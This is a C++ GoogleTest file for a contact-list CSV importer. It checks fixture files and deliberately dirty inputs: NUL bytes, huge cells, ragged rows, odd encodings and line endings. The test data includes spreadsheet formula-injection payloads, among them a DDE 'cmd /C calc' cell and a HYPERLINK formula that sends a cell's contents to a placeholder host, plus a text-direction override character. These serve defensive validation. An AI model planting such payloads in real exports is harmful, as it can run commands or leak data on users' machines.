// SPDX-License-Identifier: AGPL-3.0-or-later
// Contact import of real and dirty files, end to end on both databases
// (store/import_engine.h through the CSV reader, header mapping, phone and
// email normalization, to people read back through PersonRepo).
//
// 1. Every CSV in ../shared/interop/peer-data/spoke-fixtures (Spoke's own
//    upload fixtures, read at test time): the counts, the report lines and
//    the people stored, worked out by hand from each file. A new fixture
//    without expectations here fails EveryFixtureHasExpectations.
// 2. Generated dirty files (security-model.md §4 rows 12, 16 and 19: "row-
//    level report; atomic or explicit partial; no silent drop"): formula
//    cells, bidi controls, NUL bytes, a 10 MB cell, ragged rows, CRLF / LF /
//    CR mixes, quoted newlines, a BOM, Windows-1252 bytes, blank lines, rows
//    of spaces and tabs, an unclosed quote, stray quotes; and whole files
//    that are refused (UTF-16, empty, damaged header, no name column). For
//    each: every good row is stored (read back through PersonRepo, nothing
//    more, nothing less) and every bad row is in the report with its line
//    and problem.
// Decisions asserted (§4): formulas are stored verbatim (row 12) and the
// report guards them; a NUL byte rejects its row (row 16, "400"); bidi
// controls in a name are kept as typed with a warning ("bidi isolated": the
// UI isolates them, a spreadsheet does not), and refused in a phone or an
// email, whose normalizers refuse invisible formatting; a cell over the
// reader's 1 MiB cap rejects its row, not the file; a row of blanks is an
// empty row (skipped), not a row without a name.
#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <set>
#include <sstream>
#include <stdexcept>
#include <string>
#include <vector>

#include "import_test_support.h"
#include "io/csv_reader.h"
#include "io/csv_writer.h"
#include "io/header_mapping.h"

#ifndef HOTSHOP_SOURCE_DIR
#error "HOTSHOP_SOURCE_DIR must name the repository root"
#endif

namespace hotshop::testing {
namespace {

using store::ImportMode;
using store::ImportOptions;

const std::string kFixtureDir = std::string(HOTSHOP_SOURCE_DIR) + "/../shared/interop/peer-data/spoke-fixtures";

// The fixtures this file has expectations for (one TEST_P each below).
const std::set<std::string> kKnownFixtures = {"csv-headers-test.csv", "female_scientists.csv", "three-contacts.csv",
                                              "two-contacts-broken.csv", "two-contacts.csv"};

std::string FixturePath(const std::string& name) {
  std::string path = kFixtureDir + "/" + name;
  // Throwing fails just this test; the fixtures live beside the checkout.
  if (!std::ifstream(path).good()) throw std::runtime_error("fixture missing: " + path);
  return path;
}

std::string ReadWhole(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream s;
  s << in.rdbuf();
  return s.str();
}

struct ReportLine {
  uint64_t line = 0;
  std::string column, action, problem, excerpt;
  std::string raw_excerpt;  // as written, with CsvWriter's formula guard
};

// What a report line must be: `problem` is a part of the problem text.
struct Want {
  uint64_t line;
  std::string column;
  std::string action;
  std::string problem;
};

std::ostream& operator<<(std::ostream& o, const ReportLine& r) {
  return o << r.line << "|" << r.column << "|" << r.action << "|" << r.problem << "|" << r.raw_excerpt;
}

class ImportFilesTest : public ImportTestBase {
 protected:
  // The report of the last Import, parsed back with the CSV reader.
  std::vector<ReportLine> Report() {
    std::istringstream in(report_.str());
    std::vector<ReportLine> out;
    auto r = io::CsvReader::Open(in);
    EXPECT_TRUE(r.ok()) << "report unreadable: " << report_.str();
    if (!r.ok()) return out;
    EXPECT_EQ(r->header(), (std::vector<std::string>{"line", "column", "action", "problem", "excerpt"}));
    io::CsvRecord rec;
    while (*r->Next(rec)) {
      EXPECT_EQ(rec.issues(), 0u) << "report row " << rec.line() << " is not clean CSV";
      ReportLine l;
      l.line = std::stoull(std::string(rec.CellOr(0)));
      l.column = io::StripFormulaGuard(rec.CellOr(1));
      l.action = rec.CellOr(2);
      l.problem = io::StripFormulaGuard(rec.CellOr(3));
      l.raw_excerpt = rec.CellOr(4);
      l.excerpt = io::StripFormulaGuard(l.raw_excerpt);
      out.push_back(std::move(l));
    }
    return out;
  }

  // The report is exactly `want`, in order.
  void ExpectReport(const std::vector<Want>& want) {
    std::vector<ReportLine> got = Report();
    std::ostringstream all;
    for (const ReportLine& g : got) all << "\n  " << g;
    ASSERT_EQ(got.size(), want.size()) << "report:" << all.str();
    for (size_t i = 0; i < want.size(); ++i) {
      EXPECT_EQ(got[i].line, want[i].line) << "entry " << i << all.str();
      EXPECT_EQ(got[i].column, want[i].column) << "entry " << i << all.str();
      EXPECT_EQ(got[i].action, want[i].action) << "entry " << i << all.str();
      EXPECT_NE(got[i].problem.find(want[i].problem), std::string::npos)
          << "entry " << i << " wants \"" << want[i].problem << "\"" << all.str();
    }
  }

  // The names of everyone in the org, sorted: every good row, nothing else.
  std::multiset<std::string> Names() {
    std::multiset<std::string> out;
    for (const store::Person& p : AllPeople()) out.insert(p.name);
    return out;
  }

  // The one person with this phone.
  store::Person One(const std::string& e164) {
    std::vector<store::Person> p = ByPhone(e164);
    EXPECT_EQ(p.size(), 1u) << e164;
    return p.empty() ? store::Person{} : p[0];
  }

  static ImportOptions Partial() {
    ImportOptions o;
    o.mode = ImportMode::kPartial;
    return o;
  }
};
HOTSHOP_ON_BOTH_DATABASES(ImportFilesTest);

// --- 1. Spoke's fixtures ------------------------------------------------------

TEST(SpokeFixtureFiles, EveryFixtureHasExpectations) {
  std::set<std::string> found;
  for (const auto& e : std::filesystem::directory_iterator(kFixtureDir)) {
    if (e.path().extension() == ".csv") found.insert(e.path().filename().string());
  }
  EXPECT_EQ(found, kKnownFixtures) << "a fixture was added or removed: give it a test in import_files_test.cpp";
}

// 405 clean rows (diacritics in UTF-8, no BOM, LF, final newline), phones in
// the 555-01xx range of several area codes, all different.
TEST_P(ImportFilesTest, FemaleScientistsImportsEveryRowCleanly) {
  const std::string path = FixturePath("female_scientists.csv");
  auto s = Import(path);
  ASSERT_TRUE(s.ok()) << s.error().message();
  EXPECT_TRUE(s->committed);
  EXPECT_EQ(s->mapping.format, io::SourceFormat::kSpoke);
  EXPECT_EQ(s->rows, 405u);
  EXPECT_EQ(s->created, 405u);
  EXPECT_EQ(s->rejected + s->skipped + s->updated + s->suggested, 0u);
  EXPECT_EQ(s->warnings, 0u);
  ExpectReport({});  // nothing to say
  EXPECT_EQ(People(), 405);
  store::Person first = One("+12135550100");
  EXPECT_EQ(first.name, "Katharine Bartlett");
  EXPECT_EQ(DetailsOf(first.id).Get("zip"), "90000");
  EXPECT_EQ(One("+12135550102").name, "Alicia Duss\xC3\xA1n de Reichel");
  EXPECT_EQ(One("+13235550158").name, "Maria Sk\xC5\x82odowska-Curie");
  EXPECT_EQ(One("+16465550104").name, "Women in medicine");  // the last line
  // Two people share a name (different phones): both kept.
  EXPECT_EQ(Names().count("Inge Lehmann"), 2u);

  // The same file again: nothing changes.
  auto again = Import(path);
  ASSERT_TRUE(again.ok()) << again.error().message();
  EXPECT_TRUE(again->already_imported);
  EXPECT_EQ(People(), 405);
}

// No final newline.
TEST_P(ImportFilesTest, ThreeContactsWithoutFinalNewline) {
  auto s = Import(FixturePath("three-contacts.csv"));
  ASSERT_TRUE(s.ok()) << s.error().message();
  EXPECT_EQ(s->mapping.format, io::SourceFormat::kSpoke);
  EXPECT_EQ(s->rows, 3u);
  EXPECT_EQ(s->created, 3u);
  ExpectReport({});
  EXPECT_EQ(Names(), (std::multiset<std::string>{"Hannah Clarke", "James Potter", "Hermione Granger"}));
  EXPECT_EQ(One("+18143853820").name, "Hermione Granger");  // the unterminated last line
  EXPECT_EQ(One("+17208293847").phone, "+17208293847");
}

// firstName with last_name, an 11-digit "1..." cell, a custom column.
TEST_P(ImportFilesTest, TwoContactsKeepsTheCustomColumn) {
  auto s = Import(FixturePath("two-contacts.csv"));
  ASSERT_TRUE(s.ok()) << s.error().message();
  EXPECT_EQ(s->mapping.format, io::SourceFormat::kSpoke);
  EXPECT_EQ(s->created, 2u);
  ExpectReport({});
  store::Person p = One("+12025550175");
  EXPECT_EQ(p.name, "ContactFirst1 ContactLast1");
  EXPECT_EQ(DetailsOf(p.id).GetCustom("favorite_color"), "green");
  EXPECT_EQ(DetailsOf(One("+12025550176").id).GetCustom("favorite_color"), "orange");
}

// Spoke's deliberately broken headers: "funnyName" is no first-name alias and
// "zipWrongPostal" no zip alias. Spoke refuses the file; hotshop has a name
// column (lastName), so it imports the rows named by their last name, keeps
// the unknown columns as custom fields (nothing lost) and says which Spoke
// column is missing. The trailing blank line is not a row.
TEST_P(ImportFilesTest, TwoContactsBrokenImportsWithAWarningAndLosesNothing) {
  auto s = Import(FixturePath("two-contacts-broken.csv"));
  ASSERT_TRUE(s.ok()) << s.error().message();
  EXPECT_TRUE(s->committed);
  EXPECT_EQ(s->rows, 2u);
  EXPECT_EQ(s->created, 2u);
  ExpectReport({{0, "", "skipped", "Spoke requires firstName, lastName and cell; missing: firstName"}});
  EXPECT_EQ(Names(), (std::multiset<std::string>{"Huerta", "Wonka"}));
  store::Details d = DetailsOf(One("+12095550100").id);
  EXPECT_EQ(d.Get("last_name"), "Huerta");
  EXPECT_EQ(d.GetCustom("funnyName"), "Dolores");
  EXPECT_EQ(d.GetCustom("zipWrongPostal"), "95201");
  EXPECT_EQ(d.GetCustom("custom_foo"), "bar");
  EXPECT_EQ(d.GetCustom("custom_xxx"), "yyy");
  EXPECT_EQ(DetailsOf(One("+19384274839").id).GetCustom("funnyName"), "Jill");
}

// Every alias column: a quoted employer holding a comma, a street address
// joined with city, state and zip, a second phone kept in the details.
TEST_P(ImportFilesTest, CsvHeadersTestMapsEveryColumn) {
  auto s = Import(FixturePath("csv-headers-test.csv"));
  ASSERT_TRUE(s.ok()) << s.error().message();
  EXPECT_EQ(s->rows, 1u);
  EXPECT_EQ(s->created, 1u);
  ExpectReport({});
  store::Person p = One("+15046218927");
  EXPECT_EQ(p.name, "James Baggins");
  EXPECT_EQ(p.email, "jbaggs@gmail.com");
  EXPECT_EQ(p.address, "6649 N Blue Gum St, New Orleans, LA 70116");
  store::Details d = DetailsOf(p.id);
  EXPECT_EQ(d.Get("employer"), "Benton, John B Jr");
  EXPECT_EQ(d.Get("county"), "Orleans");
  EXPECT_EQ(d.Get("phone"), "+15048451427");
  EXPECT_EQ(d.Get("zip"), "70116");
}

// The broken fixture with its one name column renamed too: refused whole,
// with a message that says what to add, and nothing recorded.
TEST_P(ImportFilesTest, FixtureWithoutANameColumnIsRefusedClearly) {
  std::string text = ReadWhole(FixturePath("two-contacts-broken.csv"));
  text.replace(text.find("lastName"), 8, "lastNameWrong");
  auto s = Import(WriteFile("no-name.csv", text));
  ASSERT_FALSE(s.ok());
  EXPECT_EQ(s.error().code(), ErrorCode::kInvalidInput);
  EXPECT_EQ(s.error().field(), "file");
  EXPECT_NE(s.error().message().find("no name column"), std::string::npos) << s.error().message();
  EXPECT_NE(s.error().message().find("first name, last name or full name"), std::string::npos);
  EXPECT_EQ(People(), 0);
  EXPECT_EQ(Count("SELECT count(*) FROM imports WHERE org_id = $1"), 0);
}

// --- 2. Dirty files -------------------------------------------------------------

// §4 row 12: stored verbatim, shown as text; the report guards what it quotes.
TEST_P(ImportFilesTest, FormulaCellsAreStoredVerbatim) {
  auto s = Import(WriteFile("formulas.csv",
                            "firstName,lastName,cell,zip,notes\n"
                            "\"=HYPERLINK(\"\"http://x/?\"\"&A2)\",Formula,202-555-0160,20001,@SUM(1)\n"
                            "@SUM(1),At,202-555-0161,+1,-1\n"
                            "+1,Plus,202-555-0162,=1+2,\n"
                            "-1,Minus,202-555-0163,,\"=cmd|' /C calc'!A0\"\n"
                            "Ann,Guarded,=1+2,,\n"),
                  Partial());
  ASSERT_TRUE(s.ok()) << s.error().message();
  EXPECT_EQ(s->rows, 5u);
  EXPECT_EQ(s->created, 4u);
  EXPECT_EQ(s->rejected, 1u);
  std::vector<ReportLine> r = Report();
  ExpectReport({{6, "cell", "rejected", ""}});
  ASSERT_EQ(r.size(), 1u);
  EXPECT_EQ(r[0].excerpt, "=1+2");
  EXPECT_EQ(r[0].raw_excerpt, "'=1+2");  // §2.12: the report is formula-guarded too
  EXPECT_EQ(Names(), (std::multiset<std::string>{"=HYPERLINK(\"http://x/?\"&A2) Formula", "@SUM(1) At", "+1 Plus",
                                                 "-1 Minus"}));
  store::Details at = DetailsOf(One("+12025550161").id);
  EXPECT_EQ(at.Get("first_name"), "@SUM(1)");
  EXPECT_EQ(at.Get("zip"), "+1");
  EXPECT_EQ(at.GetCustom("notes"), "-1");
  EXPECT_EQ(DetailsOf(One("+12025550160").id).GetCustom("notes"), "@SUM(1)");
  EXPECT_EQ(DetailsOf(One("+12025550162").id).Get("zip"), "=1+2");
  EXPECT_EQ(DetailsOf(One("+12025550163").id).GetCustom("notes"), "=cmd|' /C calc'!A0");
}

// §4 row 16, "bidi isolated": a name keeps its controls (nothing lost; the UI
// isolates it) and the report warns; phones and emails refuse invisible
// formatting; the marks common in right-to-left names pass silently.
TEST_P(ImportFilesTest, BidiControlsAreKeptInNamesWarnedAndRefusedInPhonesAndEmails) {
  const std::string rlo = "\xE2\x80\xAE", rli = "\xE2\x81\xA7", pdi = "\xE2\x81\xA9", rlm = "\xE2\x80\x8F";
  const std::string sarah = "\xD7\xA9\xD7\xA8\xD7\x94";  // Hebrew
  auto s = Import(WriteFile("bidi.csv",
                            "firstName,lastName,cell,email\n" +                              //
                                rlo + "evil,Override,202-555-0170,\n" +                      // 2
                                "Dana," + rli + "Isolated" + pdi + ",202-555-0171,\n" +      // 3
                                sarah + rlm + ",Cohen,202-555-0172,\n" +                     // 4
                                "Eve,Phone,202-555-" + rlo + "0173,\n" +                     // 5
                                "Fay,Email,202-555-0174,fay" + rlo + "@example.org\n"),      // 6
                  Partial());
  ASSERT_TRUE(s.ok()) << s.error().message();
  EXPECT_EQ(s->rows, 5u);
  EXPECT_EQ(s->created, 3u);
  EXPECT_EQ(s->rejected, 2u);
  ExpectReport({
      {2, "", "created",
       "text-direction control character U+202E in column 1 (kept as typed; it can make text around it display "
       "out of order where it is not isolated, as in a spreadsheet)"},
      {3, "", "created", "text-direction control character U+2067 in column 2"},
      {5, "", "rejected", "U+202E in column 3"},
      {5, "cell", "rejected", "invisible formatting"},
      {6, "", "rejected", "U+202E in column 4"},
      {6, "email", "rejected", "invisible formatting"},
  });
  // The report shows the control, never applies it.
  for (const ReportLine& l : Report()) {
    EXPECT_EQ(l.raw_excerpt.find(rlo), std::string::npos) << l;
    EXPECT_EQ(l.problem.find(rlo), std::string::npos) << l;
  }
  EXPECT_EQ(Report()[3].excerpt, "202-555-<U+202E>0173");
  EXPECT_EQ(Names(), (std::multiset<std::string>{rlo + "evil Override", "Dana " + rli + "Isolated" + pdi,
                                                 sarah + rlm + " Cohen"}));
  EXPECT_TRUE(ByPhone("+12025550173").empty());
  EXPECT_TRUE(ByPhone("+12025550174").empty());
}

// §4 row 16: a NUL byte anywhere in a row rejects that row (it cannot be
// stored or shown faithfully); the other rows are imported.
TEST_P(ImportFilesTest, NulBytesRejectTheirRowOnly) {
  using namespace std::string_literals;
  auto s = Import(WriteFile("nul.csv",
                            "firstName,lastName,cell\n"
                            "Ana\0Maria,Nul,202-555-0180\n"      // 2
                            "Good,Row,202-555-0181\n"            // 3
                            "\"Quoted\0\",Nul,202-555-0182\n"    // 4
                            "Last,Cell,202-555-0183\0\n"         // 5
                            "Also,Good,202-555-0184\n"s),        // 6
                  Partial());
  ASSERT_TRUE(s.ok()) << s.error().message();
  EXPECT_EQ(s->rows, 5u);
  EXPECT_EQ(s->created, 2u);
  EXPECT_EQ(s->rejected, 3u);
  ExpectReport({
      {2, "", "rejected", "NUL byte in column 1 (row not imported)"},
      {4, "", "rejected", "NUL byte in column 1 (row not imported)"},
      {5, "", "rejected", "NUL byte in column 3 (row not imported)"},
  });
  EXPECT_EQ(Names(), (std::multiset<std::string>{"Good Row", "Also Good"}));
}

// A 10 MB cell, quoted and unquoted: the reader keeps at most 1 MiB of it
// (memory stays flat), the row is rejected with its column, and the rows
// around it are imported.
TEST_P(ImportFilesTest, TenMegabyteCellRejectsItsRowOnly) {
  std::string text = "firstName,lastName,cell,notes\nBig,Quoted,202-555-0190,\"";
  text.append(10'000'000, 'x');
  text += "\"\nGood,Row,202-555-0191,fine\nBig,Unquoted,202-555-0192,";
  text.append(10'000'000, 'y');
  text += "\nLast,Row,202-555-0193,\n";
  auto s = Import(WriteFile("big.csv", text), Partial());
  ASSERT_TRUE(s.ok()) << s.error().message();
  EXPECT_EQ(s->rows, 4u);
  EXPECT_EQ(s->created, 2u);
  EXPECT_EQ(s->rejected, 2u);
  ExpectReport({
      {2, "", "rejected", "cell in column 4 is over the 1048576-byte limit (cut) (row not imported)"},
      {4, "", "rejected", "cell in column 4 is over the 1048576-byte limit (cut) (row not imported)"},
  });
  EXPECT_EQ(Names(), (std::multiset<std::string>{"Good Row", "Last Row"}));
  EXPECT_EQ(DetailsOf(One("+12025550191").id).GetCustom("notes"), "fine");
}

// Too few cells: imported with a warning (the missing cells are empty). Too
// many, holding data: rejected (that data has no column). Too many but
// empty (a trailing comma): imported with a warning. Bare commas: skipped.
TEST_P(ImportFilesTest, RaggedRowsAreReportedAndGoodOnesKept) {
  const std::string text =
      "firstName,lastName,cell,zip\n"
      "Short,Row,202-555-0200\n"                 // 2
      "Long,Row,202-555-0201,20001,extra\n"      // 3
      "Trailing,Comma,202-555-0202,20002,\n"     // 4
      "VeryShort\n"                              // 5
      ",,,,,,\n"                                 // 6
      "Good,Row,202-555-0203,20003\n";           // 7
  auto s = Import(WriteFile("ragged.csv", text), Partial());
  ASSERT_TRUE(s.ok()) << s.error().message();
  EXPECT_EQ(s->rows, 6u);
  EXPECT_EQ(s->created, 4u);
  EXPECT_EQ(s->rejected, 1u);
  EXPECT_EQ(s->skipped, 1u);
  ExpectReport({
      {2, "", "created", "row has 3 cells but the header has 4"},
      {3, "", "rejected", "row has 5 cells but the header has 4 (row not imported)"},
      {4, "", "created", "row has 5 cells but the header has 4"},
      {5, "", "created", "row has 1 cells but the header has 4"},
      {5, "", "created", "no phone, email or external id"},
      {6, "", "skipped", "empty row"},
  });
  EXPECT_EQ(Names(), (std::multiset<std::string>{"Short Row", "Trailing Comma", "VeryShort", "Good Row"}));
  EXPECT_EQ(DetailsOf(One("+12025550202").id).Get("zip"), "20002");

  // Atomic mode: the same report of bad rows, and nothing is written.
  auto a = Import(WriteFile("ragged-atomic.csv", text + "\n"));
  ASSERT_TRUE(a.ok()) << a.error().message();
  EXPECT_FALSE(a->committed);
  EXPECT_EQ(a->rejected, 1u);
  bool listed = false;
  for (const ReportLine& l : Report()) listed = listed || (l.line == 3 && l.action == "rejected");
  EXPECT_TRUE(listed) << report_.str();
  EXPECT_EQ(People(), 4);
}

// Rows a spreadsheet leaves behind holding only spaces and tabs are empty
// rows, skipped like bare commas: in atomic mode they must not reject the
// whole file as rows "without a name".
TEST_P(ImportFilesTest, RowsOfBlanksAreSkippedNotRejected) {
  auto s = Import(WriteFile("blanks.csv",
                            "firstName,lastName,cell\n"
                            "Ana,Blank,202-555-0260\n"  // 2
                            "   ,\t, \n"                // 3
                            "\" \",,\n"                 // 4
                            "     \n"                   // 5
                            "Bo,Blank,202-555-0261\n"));  // 6
  ASSERT_TRUE(s.ok()) << s.error().message();
  EXPECT_TRUE(s->committed);
  EXPECT_EQ(s->created, 2u);
  EXPECT_EQ(s->skipped, 3u);
  EXPECT_EQ(s->rejected, 0u);
  ExpectReport({{3, "", "skipped", "empty row"}, {4, "", "skipped", "empty row"}, {5, "", "skipped", "empty row"}});
  EXPECT_EQ(Names(), (std::multiset<std::string>{"Ana Blank", "Bo Blank"}));
}

// BOM, CRLF / LF / lone CR in one file, a quoted CRLF and a quoted LF inside
// cells, blank lines of both kinds, no final newline: every row imported,
// and the report's line numbers are the file's physical lines. A BOM marks
// the file UTF-8, so a Windows-1252 row in it is rejected, not guessed.
TEST_P(ImportFilesTest, LineEndingsQuotedNewlinesBomAndBlankLines) {
  auto s = Import(WriteFile("endings.csv",
                            "\xEF\xBB\xBF" "firstName,lastName,cell,notes\r\n"
                            "Ann,Crlf,202-555-0210,\r\n"                        // 2
                            "Ben,Lf,202-555-0211,\n"                            // 3
                            "Cal,LoneCr,202-555-0212,\r"                        // 4
                            "Dee,Quoted,202-555-0213,\"line one\r\nline two\"\n"  // 5-6
                            "\n"                                                // 7
                            "\r\n"                                              // 8
                            "\"Eve\nNewline\",Name,202-555-0214,\n"             // 9-10
                            "Jos\xE9,Bom,202-555-0216,\n"                       // 11
                            "Fay,Last,202-555-0215,\"no final newline\""),      // 12
                  Partial());
  ASSERT_TRUE(s.ok()) << s.error().message();
  EXPECT_EQ(s->rows, 7u);
  EXPECT_EQ(s->created, 6u);
  EXPECT_EQ(s->rejected, 1u);
  ExpectReport({{11, "", "rejected", "row is not valid UTF-8 though the file is marked UTF-8 (row not imported)"}});
  EXPECT_EQ(Names(), (std::multiset<std::string>{"Ann Crlf", "Ben Lf", "Cal LoneCr", "Dee Quoted", "Eve\nNewline Name",
                                                 "Fay Last"}));
  EXPECT_EQ(DetailsOf(One("+12025550213").id).GetCustom("notes"), "line one\r\nline two");
  EXPECT_EQ(DetailsOf(One("+12025550215").id).GetCustom("notes"), "no final newline");
  EXPECT_EQ(s->mapping.columns[0].header, "firstName");  // the BOM is not part of the header
}

// No BOM: a row that is not UTF-8 is read as Windows-1252, with a warning
// per row (the organizer can check the spelling); UTF-8 rows are untouched.
TEST_P(ImportFilesTest, Windows1252RowsAreTranscodedAndWarned) {
  auto s = Import(WriteFile("latin.csv",
                            "firstName,lastName,cell\n"
                            "Jos\xE9,Mu\xF1oz,202-555-0220\n"           // 2
                            "Zo\xEB,\x93Quoted\x94,202-555-0221\n"      // 3
                            "Ren\xC3\xA9" "e,Utf8,202-555-0222\n"       // 4
                            "\x80uro,Sign,202-555-0223\n"),             // 5
                  Partial());
  ASSERT_TRUE(s.ok()) << s.error().message();
  EXPECT_EQ(s->created, 4u);
  ExpectReport({
      {2, "", "created", "row is not UTF-8; read as Windows-1252"},
      {3, "", "created", "row is not UTF-8; read as Windows-1252"},
      {5, "", "created", "row is not UTF-8; read as Windows-1252"},
  });
  EXPECT_EQ(Names(), (std::multiset<std::string>{"Jos\xC3\xA9 Mu\xC3\xB1oz",
                                                 "Zo\xC3\xAB \xE2\x80\x9CQuoted\xE2\x80\x9D",
                                                 "Ren\xC3\xA9" "e Utf8", "\xE2\x82\xACuro Sign"}));
}

// A quote that never closes swallows the rest of the file into one row: that
// row is rejected and the report names every line it covered, so the rows
// inside it are not silently lost. Rows before it are imported.
TEST_P(ImportFilesTest, UnclosedQuoteIsReportedWithTheLinesItSwallowed) {
  auto s = Import(WriteFile("open-quote.csv",
                            "firstName,lastName,cell\n"
                            "Good,One,202-555-0230\n"
                            "Bad,\"Open,202-555-0231\n"
                            "Lost,Two,202-555-0232\n"),
                  Partial());
  ASSERT_TRUE(s.ok()) << s.error().message();
  EXPECT_EQ(s->created, 1u);
  EXPECT_EQ(s->rejected, 1u);
  ExpectReport(
      {{3, "", "rejected", "a quoted cell opened on line 3 never closes; lines 3-4 were read as this one row"}});
  EXPECT_EQ(Names(), (std::multiset<std::string>{"Good One"}));
}

// A quote inside an unquoted cell, or text after a closing quote, is kept
// literally (as spreadsheets do) and warned about.
TEST_P(ImportFilesTest, StrayQuotesAreKeptAndWarned) {
  auto s = Import(WriteFile("stray.csv",
                            "firstName,lastName,cell\n"
                            "Ana\"Maria,Stray,202-555-0240\n"
                            "\"Bo\"b,After,202-555-0241\n"
                            "Cy,Clean,202-555-0242\n"),
                  Partial());
  ASSERT_TRUE(s.ok()) << s.error().message();
  EXPECT_EQ(s->created, 3u);
  ExpectReport({
      {2, "", "created", "stray quote character kept as text"},
      {3, "", "created", "stray quote character kept as text"},
  });
  EXPECT_EQ(Names(), (std::multiset<std::string>{"Ana\"Maria Stray", "Bob After", "Cy Clean"}));
}

// Whole files that cannot be read as a contact list: refused with a message
// a person can act on, and nothing written.
TEST_P(ImportFilesTest, UnreadableFilesAreRefusedWithAReason) {
  struct Case {
    std::string name, text, message;
  };
  using namespace std::string_literals;
  const Case cases[] = {
      {"utf16.csv", "\xFF\xFE" "f\0i\0r\0s\0t\0N\0a\0m\0e\0\n\0"s, "the file is UTF-16; save it as \"CSV UTF-8\""},
      {"empty.csv", "", "the file is empty"},
      {"blank.csv", "\n\r\n\n", "the file has no header row"},
      {"nul-header.csv", "firstName,last\0Name,cell\nAna,B,202-555-0250\n"s,
       "the header row is damaged: NUL byte in column 2"},
  };
  for (const Case& c : cases) {
    auto s = Import(WriteFile(c.name, c.text), Partial());
    ASSERT_FALSE(s.ok()) << c.name;
    EXPECT_EQ(s.error().code(), ErrorCode::kInvalidInput) << c.name;
    EXPECT_EQ(s.error().field(), "file") << c.name;
    EXPECT_NE(s.error().message().find(c.message), std::string::npos) << c.name << ": " << s.error().message();
  }
  EXPECT_EQ(People(), 0);
}

// A header row alone is a valid, empty import.
TEST_P(ImportFilesTest, HeaderOnlyFileImportsNothing) {
  auto s = Import(WriteFile("header.csv", "firstName,lastName,cell\r\n\r\n"));
  ASSERT_TRUE(s.ok()) << s.error().message();
  EXPECT_TRUE(s->committed);
  EXPECT_EQ(s->rows, 0u);
  ExpectReport({});
  EXPECT_EQ(People(), 0);
}

}  // namespace
}  // namespace hotshop::testing
